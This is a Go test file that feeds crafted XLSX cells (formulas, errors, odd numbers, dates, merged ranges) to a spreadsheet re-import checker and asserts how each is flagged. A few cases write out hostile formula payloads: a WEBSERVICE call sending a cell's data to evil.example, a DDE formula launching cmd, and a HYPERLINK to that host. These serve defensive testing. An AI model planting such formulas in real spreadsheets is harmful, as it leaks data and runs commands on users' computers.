package back_test

import (
	"strings"

	"factdesk/export/xlsx/back"
	"factdesk/export/xlsx/xlsxtest"
)

// spoiltCells are cells that hold something else than words.
func spoiltCells() []spoilt {
	const formula = "it holds a formula"
	calculated := func(f string) func([]byte) []byte { return cell("C2", ` t="str"`, f+`<v>Me</v>`) }
	text := func(n string) func([]byte) []byte { return cell("C2", ` t="s"`, `<v>`+n+`</v>`) }
	return []spoilt{
		{"a formula", calculated(`<f>1+1</f>`), lists("Row 2, Speaker of claim 1")},
		{"a formula without a word", calculated(`<f/>`), lists(formula)},
		{"a formula that is shared", calculated(`<f t="shared" ref="C2:C4" si="0">A1</f>`), lists(formula)},
		{"a formula that shares another's", calculated(`<f t="shared" si="0"/>`), lists(formula)},
		{"a formula that asks the web", calculated(`<f>_xlfn.WEBSERVICE("http://evil.example/"&amp;B2)</f>`), lists(formula)},
		{"a formula that starts a program", calculated(`<f>DDE("cmd";"/C calc";"x")</f>`), lists(formula)},
		{"a formula that is a link", calculated(`<f>HYPERLINK("http://evil.example","Me")</f>`), lists(formula)},
		{"a formula of several cells", in(func(p xlsxtest.Parts) {
			p.Cell("C2", ` t="str"`, `<f t="array" ref="C2:C4">{"a";"b";"c"}</f><v>a</v>`)
			p.Cell("C3", ` t="str"`, `<v>b</v>`)
			p.Cell("C4", ` t="str"`, `<v>c</v>`)
		}), lists("Row 2, Speaker of claim 1", "Row 3, Speaker of claim 2", "Row 4, Speaker of claim 3")},
		{"a table of what would be", in(func(p xlsxtest.Parts) {
			p.Cell("C2", "", `<f t="dataTable" ref="C2:C3" dt2D="1" dtr="1" r1="A1"/><v>1</v>`)
			p.Cell("C3", "", `<v>2</v>`)
		}), lists("Row 2, Speaker of claim 1", "Row 3, Speaker of claim 2")},
		{"a formula of cells nobody knows", calculated(`<f t="array" ref="everywhere">1</f>`), refusedAs(back.ErrBroken)},
		{"a formula for an ID", cell("AH2", ` t="str"`, `<f>1</f><v>x</v>`), lists("is no Claim ID", "Claim 1 (")},
		{"a formula for a heading", cell("C1", ` t="str"`, `<f>"Speaker"</f><v>Speaker</v>`), lists("no column “Speaker”", "The column C isn't")},
		{"an error", cell("C2", ` t="e"`, `<v>#REF!</v>`), lists("it holds an error of the spreadsheet program")},
		{"a picture in a cell", cell("C2", ` t="e" vm="1"`, `<v>#VALUE!</v>`), lists("it holds an error of the spreadsheet program")},
		{"a truth as words", cell("C2", ` t="b"`, `<v>1</v>`), differs("1 Speaker: TRUE")},
		{"a truth that is none", cell("C2", ` t="b"`, `<v>2</v>`), refusedAs(back.ErrBroken)},
		{"a cell of a type nobody knows", cell("C2", ` t="sound"`, `<v>2</v>`), refusedAs(back.ErrBroken)},
		{"a text number below the first", text("-1"), refusedAs(back.ErrBroken)},
		{"a text number beyond the last", text("9999"), refusedAs(back.ErrBroken)},
		{"a text number beyond all", text("99999999999999999999999"), refusedAs(back.ErrBroken)},
		{"a text number that is none", text("one"), refusedAs(back.ErrBroken)},
		{"a text number as a fraction", text("1.5"), refusedAs(back.ErrBroken)},
		{"two values in a cell", cell("C2", ` t="str"`, `<v>Me</v><v>You</v>`), refusedAs(back.ErrBroken)},
		{"a value and a text in a cell", cell("C2", ` t="inlineStr"`, `<v>0</v><is><t>Me</t></is>`), refusedAs(back.ErrBroken)},
		{"a text of the wrong type", cell("C2", ``, `<is><t>Me</t></is>`), lists("it holds a number that can't be read as it is shown")},
		{"an empty value", cell("C2", ` t="s"`, `<v></v>`), differs("1 Speaker: ")},
		{"a number", cell("C2", ``, `<v>2024</v>`), differs("1 Speaker: 2024")},
		{"a number with a power", cell("C2", ``, `<v>2.024E3</v>`), differs("1 Speaker: 2024")},
		{"a number beyond all", cell("C2", ``, `<v>1E999</v>`), lists("it holds a number that can't be read as it is shown")},
		{"no number", cell("C2", ``, `<v>NaN</v>`), lists("it holds a number that can't be read as it is shown")},
		{"words in place of a number", cell("C2", ``, `<v>many</v>`), lists("it holds a number that can't be read as it is shown")},
		{"sixteen digits", cell("C2", ``, `<v>1234567890123456</v>`), lists("it holds a number that can't be read as it is shown")},
		{"a date in a column of words", in(func(p xlsxtest.Parts) {
			p.Cell("C2", "", `<v>46174</v>`)
			p.Sub(xlsxtest.ClaimsPart, `<c r="C2" s="\d+"`, `<c r="C2"`+p.Style("S5"))
		}), lists("has made a date of what was typed")},
		{"a style that isn't there", in(func(p xlsxtest.Parts) { p.Swap(xlsxtest.ClaimsPart, `<c r="S5" s="`, `<c r="S5" s="999`) }), lists("which is no date")},
		{"a date as a number without a form", in(func(p xlsxtest.Parts) { p.Sub(xlsxtest.ClaimsPart, `<c r="S5" s="\d+"`, `<c r="S5"`) }), exactly()},
		{"a date below the first", cell("S5", ``, `<v>-1</v>`), lists("which is no date")},
		{"a date beyond the last", cell("S5", ``, `<v>2958466</v>`), lists("which is no date")},
		{"a date that never was", cell("S5", ``, `<v>60</v>`), lists("which is no date")},
		{"a date and a time", cell("S5", ``, `<v>46174.75</v>`), exactly()},
		{"a date as words", words("S5", "1 June 2026"), exactly()},
		{"a date that may be two", words("S5", "06/01/2026"), lists("one day only")},
		{"a date that isn't", words("S5", "2026-02-30"), lists("one day only")},
		{"a date as a formula", cell("S5", ``, `<f>TODAY()</f><v>46174</v>`), lists(formula)},
		{"rich words", cell("C2", ` t="inlineStr"`, `<is><r><rPr><b/></rPr><t>Lower</t></r><r><t xml:space="preserve"> Marsh</t></r><r><t> council</t></r></is>`), exactly()},
		{"how words are read aloud", cell("C2", ` t="inlineStr"`, `<is><t>Lower Marsh council</t><rPh sb="0" eb="1"><t>LMC</t></rPh></is>`), exactly()},
		{"cells that are joined", joined("B2:C2"), lists("Statement of claim 1", "Speaker of claim 1")},
		{"rows that are joined", joined("C2:C4"), lists("Speaker of claim 1", "Speaker of claim 2", "Speaker of claim 3")},
		{"cells that are joined from behind", joined("C4:C2"), lists("Speaker of claim 1", "Speaker of claim 2", "Speaker of claim 3")},
		{"all cells joined", joined("A1:XFD1048576"), lists(everyCell()...)},
		{"cells joined nobody knows where", joined("here:there"), refusedAs(back.ErrBroken)},
		{"a cell joined with itself", joined("C2"), exactly()},
	}
}

func joined(ref string) func([]byte) []byte {
	return swap(xlsxtest.ClaimsPart, `</sheetData>`, `</sheetData><mergeCells count="1"><mergeCell ref="`+ref+`"/></mergeCells>`)
}

// everyCell is one sentence for each cell that an editor may change.
func everyCell() []string {
	return strings.Split(strings.Repeat("it is joined with other cells\n", 49)+"it is joined with other cells", "\n")
}
